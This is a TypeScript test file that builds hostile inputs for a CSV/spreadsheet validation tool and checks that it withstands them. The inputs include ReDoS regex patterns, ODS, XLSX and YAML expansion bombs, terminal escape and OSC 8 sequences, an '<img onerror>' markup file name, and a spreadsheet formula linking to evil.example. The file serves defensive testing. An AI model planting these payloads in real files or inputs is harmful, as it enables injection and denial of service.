// The hostile inputs (issue 12): every row of the issue's table and many more, generated at run time from a
// seed into a scratch folder (nothing large is committed), each with the odf commands to run on it.
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  createWriteStream,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { once } from 'node:events';
import os from 'node:os';
import path from 'node:path';
import type { Run, RunResult } from './runner.js';
import { ROOT } from './runner.js';
import { cell, ods, SHEET_HEAD, SHEET_TAIL, xlsx } from './zip.js';

/** Where a case writes its inputs and where odf writes its outputs. */
export interface CaseContext {
  /** Inputs: fingerprinted before and after, they must not change. */
  input: string;
  /** Outputs (normalize -o, --out-dir, -o report). */
  output: string;
  /** A seeded random generator for this case. */
  rnd: () => number;
  /** Base URL of the suite's local HTTP server (`/endless`, `/loop`, `/schema.json`). */
  url: string;
}

export interface HostileCase {
  id: string;
  /** The row of issue 12's table this case reproduces. */
  row?: number;
  what: string;
  prepare(ctx: CaseContext): Promise<Run[]>;
  /** A case that drives odf itself (kill -9…) and returns its own problems. */
  custom?: (ctx: CaseContext, run: (r: Run) => Promise<RunResult>) => Promise<string[]>;
}

export function put(ctx: CaseContext, name: string, data: string | Uint8Array): string {
  const f = path.join(ctx.input, name);
  mkdirSync(path.dirname(f), { recursive: true });
  writeFileSync(f, data);
  return f;
}

/** Write a large file from chunks without holding it in memory. */
export async function putStream(
  ctx: CaseContext,
  name: string,
  chunks: Iterable<string | Uint8Array>,
): Promise<string> {
  const f = path.join(ctx.input, name);
  const out = createWriteStream(f);
  for (const c of chunks) if (!out.write(c)) await once(out, 'drain');
  out.end();
  await once(out, 'finish');
  return f;
}

export function* repeat(chunk: string, times: number): Iterable<string> {
  for (let i = 0; i < times; i++) yield chunk;
}

export function schemaFile(
  ctx: CaseContext,
  fields: unknown[],
  extra: Record<string, unknown> = {},
  name = 'schema.json',
): string {
  return put(ctx, name, JSON.stringify({ fields, ...extra }));
}

export const v = (file: string, ...more: string[]): Run => ({ args: ['validate', file, ...more] });
export const vj = (file: string, ...more: string[]): Run => ({
  args: ['validate', file, '--format', 'json', ...more],
});
export const det = (file: string): Run => ({ args: ['detect', file] });
export function norm(ctx: CaseContext, file: string, ...more: string[]): Run {
  return {
    args: ['normalize', file, '-q', '-o', path.join(ctx.output, `${path.basename(file)}.out.csv`), ...more],
  };
}

const CSI = '\u001b[';
/** Raw terminal and bidi controls a report must never pass through. */
// eslint-disable-next-line no-control-regex
export const RAW_CONTROLS = /\u001b|\u0007|\u202e|\u2066|\u009b/;

/** The machine's hash in odf's temporary names, as src/output/atomic.ts writes it. */
export function hostTag(): string {
  return createHash('sha256').update(os.hostname()).digest('hex').slice(0, 8);
}

export function deadPid(): number {
  return spawnSync(process.execPath, ['-e', '0']).pid!;
}

export function tmpNames(dir: string): string[] {
  return existsSync(dir)
    ? readdirSync(dir).filter((n) => /\.odf-[0-9a-f]{8}-\d+-[0-9a-f]{12}\.tmp$/.test(n))
    : [];
}

export const csvRow = (cells: string[]): string =>
  cells.map((c) => (/[",\n\r]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',') + '\n';

/** The cases, in the order of the issue's table, then the others by family. */
export const CASES: HostileCase[] = [
  // ── The 17 rows of issue 12 ─────────────────────────────────────────────────────────────────────
  {
    id: 'row01-friches-backreference',
    row: 1,
    what: 'schema-friches site_url and http:// + 38 A + ~ (back-reference pattern)',
    async prepare(ctx) {
      const f = put(ctx, 'friches.csv', `site_url\nhttp://${'A'.repeat(38)}~\nhttp://${'A'.repeat(5000)}~\n`);
      return [v(f, '-s', 'cnigfr/schema-friches@1.0.4'), norm(ctx, f, '-s', 'cnigfr/schema-friches@1.0.4')];
    },
  },
  {
    id: 'row02-user-catastrophic-patterns',
    row: 2,
    what: '([a-z]|[a-z0-9])* on 26 a + ! and ^(\\w+\\s?)*\\1$ on 40 a + b',
    async prepare(ctx) {
      const s = schemaFile(ctx, [
        { name: 'a', constraints: { pattern: '([a-z]|[a-z0-9])*' } },
        { name: 'b', constraints: { pattern: '^(\\w+\\s?)*\\1$' } },
        { name: 'c', constraints: { pattern: '(a+)+$' } },
      ]);
      const rows = Array.from({ length: 300 }, () =>
        csvRow([`${'a'.repeat(26)}!`, `${'a'.repeat(40)}b`, `${'a'.repeat(60)}!`]),
      );
      const f = put(ctx, 'patterns.csv', `a,b,c\n${rows.join('')}`);
      return [v(f, '-s', s)];
    },
  },
  {
    id: 'row03-ods-repeated-rows-and-cells',
    row: 3,
    what: '1.2 KB ODS: a row repeated 1,048,576 times, a cell 16,384 times',
    async prepare(ctx) {
      const f = put(
        ctx,
        'repeat.ods',
        await ods(
          '<table:table table:name="T"><table:table-row><table:table-cell office:value-type="string" xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><text:p>nom</text:p></table:table-cell></table:table-row><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string" xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
        ),
      );
      return [v(f), det(f)];
    },
  },
  {
    id: 'row03-ods-repeated-rows-only',
    row: 3,
    what: 'ODS: rows repeated alone',
    async prepare(ctx) {
      const f = put(
        ctx,
        'rows.ods',
        await ods(
          '<table:table table:name="T"><table:table-row><table:table-cell><text:p>nom</text:p></table:table-cell></table:table-row><table:table-row table:number-rows-repeated="1048576"><table:table-cell><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
        ),
      );
      return [v(f)];
    },
  },
  {
    id: 'row04-full-disk-stdout',
    row: 4,
    what: 'normalize -o - and validate onto a full device (/dev/full)',
    async prepare(ctx) {
      const f = await putStream(ctx, 'big.csv', [
        'nom,montant\n',
        ...repeat('Ligne de budget,12.5\n', 20_000),
      ]);
      const s = schemaFile(ctx, [{ name: 'nom' }, { name: 'montant', type: 'number' }]);
      if (!existsSync('/dev/full')) return [v(f, '-s', s)];
      const full = { device: '/dev/full' };
      const exit2 = (r: RunResult): string | undefined =>
        r.code === 2 && /le disque est plein/.test(r.stderr)
          ? undefined
          : `expected exit 2 « disque plein », got ${r.code}`;
      return [
        { args: ['normalize', f, '-s', s, '-o', '-'], stdout: full, check: exit2 },
        { args: ['validate', f, '-s', s], stdout: full, check: exit2 },
      ];
    },
  },
  {
    id: 'row04-full-disk-file',
    row: 4,
    what: 'normalize onto a 2 MB tmpfs (when the suite may mount one), else onto a file that cannot be written',
    async prepare(ctx) {
      const f = await putStream(ctx, 'big.csv', [
        'nom,montant\n',
        ...repeat('Ligne de budget,12.5\n', 120_000),
      ]);
      const s = schemaFile(ctx, [{ name: 'nom' }, { name: 'montant', type: 'number' }]);
      const small = path.join(ctx.output, 'small');
      mkdirSync(small, { recursive: true });
      const mounted = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=2m', 'tmpfs', small]).status === 0;
      const target = mounted
        ? path.join(small, 'out.csv')
        : path.join(ctx.output, 'missing', 'folder', 'out.csv');
      return [
        {
          args: ['normalize', f, '-s', s, '-q', '-o', target],
          check: (r) => {
            const left = tmpNames(path.dirname(target));
            if (mounted) spawnSync('umount', [small]);
            if (r.code !== 2) return `expected exit 2, got ${r.code}`;
            if (left.length) return `temporaries left: ${left.join(', ')}`;
            return mounted && !/le disque est plein/.test(r.stderr)
              ? 'no « disque plein » sentence'
              : undefined;
          },
        },
      ];
    },
  },
  {
    id: 'row05-schema-download-endless',
    row: 5,
    what: '--schema http://127.0.0.1/… streaming without end',
    async prepare(ctx) {
      const f = put(ctx, 'a.csv', 'a\n1\n');
      const check = (r: RunResult): string | undefined =>
        r.code === 2 ? undefined : `expected exit 2, got ${r.code}`;
      return [
        { args: ['validate', f, '-s', `${ctx.url}/endless`], check },
        { args: ['normalize', f, '-s', `${ctx.url}/endless`, '-o', path.join(ctx.output, 'o.csv')], check },
      ];
    },
  },
  {
    id: 'row06-xlsx-inflating-450mb',
    row: 6,
    what: 'an XLSX whose sheet inflates to 450 MB (under the zip-bomb ratio)',
    async prepare(ctx) {
      const row = (i: number): string =>
        `<row r="${i}">${cell(`A${i}`, `Valeur ${i} `.padEnd(300, 'x'))}${cell(`B${i}`, String(i))}</row>`;
      const f = put(
        ctx,
        'big.xlsx',
        await xlsx(function* () {
          yield SHEET_HEAD + `<row r="1">${cell('A1', 'nom')}${cell('B1', 'n')}</row>`;
          let chunk = '';
          for (let i = 2; i < 1_200_000; i++) {
            chunk += row(i);
            if (chunk.length > 1 << 20) {
              yield chunk;
              chunk = '';
            }
          }
          yield chunk + SHEET_TAIL;
        }),
      );
      return [v(f)];
    },
  },
  {
    id: 'row06-xlsx-lying-sizes',
    row: 6,
    what: 'an XLSX whose sheet says it is 100 bytes and inflates to 200 MB',
    async prepare(ctx) {
      const f = put(
        ctx,
        'liar.xlsx',
        await xlsx(
          function* () {
            yield SHEET_HEAD + `<row r="1">${cell('A1', 'nom')}</row>`;
            const r = `<row>${cell('A2', 'y'.repeat(500))}</row>`;
            let chunk = '';
            for (let i = 0; i < 380_000; i++) {
              chunk += r;
              if (chunk.length > 1 << 20) {
                yield chunk;
                chunk = '';
              }
            }
            yield chunk + SHEET_TAIL;
          },
          [],
          100,
        ),
      );
      return [v(f)];
    },
  },
  {
    id: 'row07-xlsx-cell-ZZZZ1',
    row: 7,
    what: '1.9 KB XLSX with one cell at ZZZZ1 (past column XFD)',
    async prepare(ctx) {
      const f = put(
        ctx,
        'zzzz.xlsx',
        await xlsx(
          `${SHEET_HEAD}<dimension ref="A1:ZZZZ1"/><row r="1">${cell('A1', 'nom')}${cell('ZZZZ1', 'x')}</row>${SHEET_TAIL}`,
        ),
      );
      return [v(f), det(f)];
    },
  },
  {
    id: 'row08-datapackage-trailing-comma',
    row: 8,
    what: 'an existing datapackage.json with one trailing comma, then normalize --out-dir',
    async prepare(ctx) {
      const f = put(
        ctx,
        'budget.csv',
        readFileSync(path.join(ROOT, 'fixtures/examples/budget-export-mairie.csv')),
      );
      const pkg =
        '{\n  "title": "Budget",\n  "licenses": [{ "name": "etalab-2.0" }],\n  "resources": [],\n}\n';
      const target = path.join(ctx.output, 'datapackage.json');
      writeFileSync(target, pkg);
      return [
        {
          args: ['normalize', f, '-s', 'scdl/budget', '-q', '--out-dir', ctx.output],
          check: (r) =>
            r.code !== 2
              ? `expected exit 2, got ${r.code}`
              : readFileSync(target, 'utf8') !== pkg
                ? 'datapackage.json was modified'
                : undefined,
        },
      ];
    },
  },
  {
    id: 'row09-terminal-controls-in-values',
    row: 9,
    what: 'cells and column names with ESC[2J, OSC 8 links, BEL, U+202E (text and GitHub reports)',
    async prepare(ctx) {
      const osc = '\u001b]8;;https://evil.example\u0007clic\u001b]8;;\u0007';
      const f = put(
        ctx,
        'controls.csv',
        `nom${CSI}2J,montant\u202e,lien\n${CSI}31mrouge${CSI}0m\u0007,abc,${osc}\n${CSI}2Jx,\u202egnp.exe,${osc}\n`,
      );
      const s = schemaFile(ctx, [
        { name: 'nom' },
        { name: 'montant', type: 'number' },
        { name: 'lien', format: 'uri' },
      ]);
      const clean = (r: RunResult): string | undefined =>
        RAW_CONTROLS.test(r.stdout)
          ? `raw control characters in the report: ${JSON.stringify(r.stdout.match(RAW_CONTROLS)?.[0])}`
          : undefined;
      return [
        { ...v(f, '-s', s), check: clean },
        { ...v(f, '-s', s, '--format', 'github'), check: clean },
        { ...v(f, '--format', 'markdown'), check: clean },
      ];
    },
  },
  {
    id: 'row10-markup-in-file-name',
    row: 10,
    what: 'a file named a<img src=x onerror=alert(1)>.csv in --format markdown and html',
    async prepare(ctx) {
      const f = put(ctx, 'a<img src=x onerror=alert(1)>.csv', 'nom,n\nx,abc\n');
      const s = schemaFile(ctx, [{ name: 'nom' }, { name: 'n', type: 'integer' }]);
      return [
        {
          ...v(f, '-s', s, '--format', 'markdown'),
          // `\<img` is CommonMark's escaped `<`: shown, never a tag.
          check: (r) => (/(^|[^\\])<img/i.test(r.stdout) ? 'raw <img> in the markdown report' : undefined),
        },
        {
          ...v(f, '-s', s, '--format', 'html'),
          check: (r) => (/<img src=x/i.test(r.stdout) ? 'raw <img> in the HTML report' : undefined),
        },
      ];
    },
  },
  {
    id: 'row11-formulas',
    row: 11,
    what: 'cells starting with =, +, -, @ and "\\t=1+1": never a new formula; --escape-formulas escapes',
    async prepare(ctx) {
      const f = put(
        ctx,
        'formules.csv',
        'nom,code\n"=HYPERLINK(""http://evil.example/""&A1)",A\n"\t=1+1",B\n@SUM(1+1),"\t=2+2"\n-5,+33 1 23 45 67 89\n',
      );
      const s = schemaFile(ctx, [
        { name: 'nom' },
        { name: 'code', constraints: { pattern: '^[A-Z0-9+ ]+$' } },
      ]);
      const plain = path.join(ctx.output, 'plain.csv');
      const escaped = path.join(ctx.output, 'escaped.csv');
      return [
        {
          args: ['normalize', f, '-s', s, '-q', '-o', plain],
          check: () => {
            const text = readFileSync(plain, 'utf8');
            return /(^|\n|,)=1\+1|(^|\n|,)=2\+2/.test(text)
              ? 'a repair made a live formula out of "\\t=…"'
              : undefined;
          },
        },
        {
          args: ['normalize', f, '-s', s, '-q', '--escape-formulas', '-o', escaped],
          check: () => {
            const lines = readFileSync(escaped, 'utf8').split('\r\n');
            return lines[1]?.startsWith(`"'=HYPERLINK`) &&
              lines[3]?.startsWith("'@SUM") &&
              lines[4]?.startsWith('-5,')
              ? undefined
              : `not escaped as OWASP advises: ${JSON.stringify(lines.slice(1, 5))}`;
          },
        },
        {
          ...vj(f, '-s', s),
          check: (r) => (/"formula-like-text"/.test(r.stdout) ? undefined : 'no formula-like-text finding'),
        },
      ];
    },
  },
  ...(['--config', '--map', '--synonyms'] as const).map((opt): HostileCase => ({
    id: `row12-yaml-alias-bomb${opt}`,
    row: 12,
    what: `a YAML alias bomb given as ${opt}`,
    async prepare(ctx) {
      const bomb = [
        'a: &a [x, x, x, x, x, x, x, x, x, x]',
        'b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]',
        'c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]',
        'd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]',
        'e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]',
        'fields: [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]',
      ].join('\n');
      const y = put(ctx, 'bomb.yaml', bomb);
      const f = put(ctx, 'a.csv', 'a\n1\n');
      return [
        {
          args: ['validate', f, '-s', 'scdl/budget', opt, y],
          check: (r) => (r.code === 2 ? undefined : `expected exit 2, got ${r.code}`),
        },
      ];
    },
  })),
  {
    id: 'row13-folder-and-fifo-as-schema',
    row: 13,
    what: 'a folder, a named pipe (with a writer) and a loop of links as --schema',
    async prepare(ctx) {
      const f = put(ctx, 'a.csv', 'a\n1\n');
      mkdirSync(path.join(ctx.input, 'dossier'));
      symlinkSync('boucle', path.join(ctx.input, 'boucle'));
      const fifo = path.join(ctx.output, 'tube');
      spawnSync('mkfifo', [fifo]);
      const says = (re: RegExp) => (r: RunResult) =>
        re.test(r.stderr) ? undefined : `expected ${re}, got ${r.stderr.trim()}`;
      const runs: Run[] = [
        { args: ['validate', f, '-s', path.join(ctx.input, 'dossier')], check: says(/est un dossier/) },
        { args: ['validate', f, '-s', path.join(ctx.input, 'boucle')], check: says(/tourne en boucle/) },
        { args: ['validate', path.join(ctx.input, 'boucle')], check: says(/tourne en boucle/) },
      ];
      if (existsSync(fifo)) {
        // The writer starts with the run and feeds the pipe once odf opens it.
        spawn(
          process.execPath,
          ['-e', `require('fs').writeFileSync(${JSON.stringify(fifo)}, '{"fields":[{"name":"a"}]}')`],
          {
            stdio: 'ignore',
            timeout: 120_000,
          },
        ).unref();
        runs.push({
          args: ['validate', f, '-s', fifo],
          check: (r) => (r.code === 0 ? undefined : `expected exit 0, got ${r.code}`),
        });
      }
      return runs;
    },
  },
  {
    id: 'row13-stdin-name',
    row: 13,
    what: 'normalize - on binary input: the sentence names <stdin>, not a temporary file',
    async prepare(ctx) {
      const out = path.join(ctx.output, 'o.csv');
      return [
        {
          args: ['normalize', '-', '-s', 'scdl/budget', '-o', out],
          stdin: Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0, 0xff, 0xfe, 0, 1, 2, 3]),
          check: (r) =>
            /<stdin>/.test(r.stderr) && !/odf-[A-Za-z0-9]{6}/.test(r.stderr)
              ? undefined
              : `stderr: ${r.stderr.trim()}`,
        },
      ];
    },
  },
  {
    id: 'row13-raw-network-codes',
    row: 13,
    what: 'a blocked port, a redirect loop, an unknown host, a bad URL as --schema',
    async prepare(ctx) {
      const f = put(ctx, 'a.csv', 'a\n1\n');
      const exit2 = (r: RunResult): string | undefined =>
        r.code === 2 ? undefined : `expected exit 2, got ${r.code}`;
      return [
        { args: ['validate', f, '-s', 'http://127.0.0.1:6000/schema.json'], check: exit2 },
        { args: ['validate', f, '-s', `${ctx.url}/loop`], check: exit2 },
        { args: ['validate', f, '-s', 'http://[::1'], check: exit2 },
        { args: ['validate', f, '-s', 'http://host.invalid/schema.json'], check: exit2 },
      ];
    },
  },
  {
    id: 'row14-single-line-csv',
    row: 14,
    what: 'a header, then 64 MB of CSV on a single line',
    async prepare(ctx) {
      const f = await putStream(ctx, 'one-line.csv', ['a,b,c\n', ...repeat(',x'.repeat(1 << 19), 64)]);
      return [v(f)];
    },
  },
  {
    id: 'row15-20000-columns-without-schema',
    row: 15,
    what: '20,000 columns, no --schema (recognition against the catalogue)',
    async prepare(ctx) {
      const header = Array.from({ length: 20_000 }, (_, i) => `colonne_${i}`).join(',');
      const row = Array.from({ length: 20_000 }, (_, i) => String(i)).join(',');
      const f = put(ctx, 'wide.csv', `${header}\n${row}\n${row}\n`);
      return [v(f)];
    },
  },
  {
    id: 'row16-header-of-spaces',
    row: 16,
    what: 'a header made only of spaces: a clear finding, nothing dropped silently',
    async prepare(ctx) {
      const f = put(ctx, 'spaces.csv', '   ,   ,   \nParis,75056,1\nLyon,69123,2\n');
      const s = schemaFile(ctx, [{ name: 'ville' }, { name: 'insee' }, { name: 'n', type: 'integer' }]);
      const out = path.join(ctx.output, 'spaces.out.csv');
      return [
        {
          args: ['normalize', f, '-s', s, '-q', '-o', out, '--format', 'json'],
          check: (r) => {
            if (r.code === 2) return undefined; // refused in one sentence: nothing written, nothing lost
            const report = JSON.parse(r.stdout) as {
              files: {
                findings: { code: string }[];
                normalize?: { counts: { read: number }; droppedColumns?: string[] };
              }[];
            };
            const file = report.files[0]!;
            if (!file.findings.some((f) => f.code === 'header-blank')) return 'no header-blank finding';
            if (file.normalize?.counts.read !== 2) return `rows read: ${file.normalize?.counts.read}, not 2`;
            // The values of the nameless columns are in the output, or the report names the columns left out.
            const written = existsSync(out) ? readFileSync(out, 'utf8') : '';
            const kept = /Paris/.test(written) && /Lyon/.test(written);
            return kept || file.normalize.droppedColumns?.length === 3
              ? undefined
              : 'values dropped without the report saying which columns';
          },
        },
      ];
    },
  },
  {
    id: 'row17-leftover-temporary',
    row: 17,
    what: 'a temporary left by a killed run (dead process) is removed by the next one; a live one is kept',
    async prepare(ctx) {
      const f = put(
        ctx,
        'budget.csv',
        readFileSync(path.join(ROOT, 'fixtures/examples/budget-export-mairie.csv')),
      );
      const dead = path.join(ctx.output, `.budget.csv.odf-${hostTag()}-${deadPid()}-0123456789ab.tmp`);
      const live = path.join(ctx.output, `.autre.csv.odf-${hostTag()}-${process.pid}-0123456789ab.tmp`);
      writeFileSync(dead, 'partial');
      writeFileSync(live, 'partial');
      return [
        {
          args: ['normalize', f, '-s', 'scdl/budget', '-q', '-o', path.join(ctx.output, 'budget.csv')],
          check: () => {
            if (existsSync(dead)) return 'the dead run’s temporary is still there';
            if (!existsSync(live)) return 'a live run’s temporary was removed';
            rmSync(live); // kept, as it should be: now the suite's own to clean
            return undefined;
          },
        },
      ];
    },
  },
  {
    id: 'row17-kill-9',
    row: 17,
    what: 'normalize killed with SIGKILL mid-write leaves a temporary named for what it is; the next run cleans it',
    async prepare(ctx) {
      await putStream(ctx, 'long.csv', ['nom,montant\n', ...repeat('Ligne de budget,12.5\n', 1_500_000)]);
      schemaFile(ctx, [{ name: 'nom' }, { name: 'montant', type: 'number' }]);
      return [];
    },
    async custom(ctx, run) {
      const f = path.join(ctx.input, 'long.csv');
      const s = path.join(ctx.input, 'schema.json');
      const target = path.join(ctx.output, 'long.out.csv');
      const child = spawn(
        process.execPath,
        [path.join(ROOT, 'bin/odf.js'), 'normalize', f, '-s', s, '-q', '-o', target],
        {
          stdio: 'ignore',
        },
      );
      const started = Date.now();
      while (tmpNames(ctx.output).length === 0 && Date.now() - started < 60_000 && child.exitCode === null)
        await new Promise((r) => setTimeout(r, 50));
      await new Promise((r) => setTimeout(r, 300));
      child.kill('SIGKILL');
      await once(child, 'close');
      const left = tmpNames(ctx.output);
      const problems: string[] = [];
      if (left.length === 0 && !existsSync(target)) problems.push('no temporary seen before the kill');
      const again = await run({ args: ['normalize', f, '-s', s, '-q', '-o', target] });
      if (again.code !== 0) problems.push(`the next run exited ${again.code}`);
      const after = tmpNames(ctx.output);
      if (after.length) problems.push(`temporaries left after the next run: ${after.join(', ')}`);
      return problems;
    },
  },
];
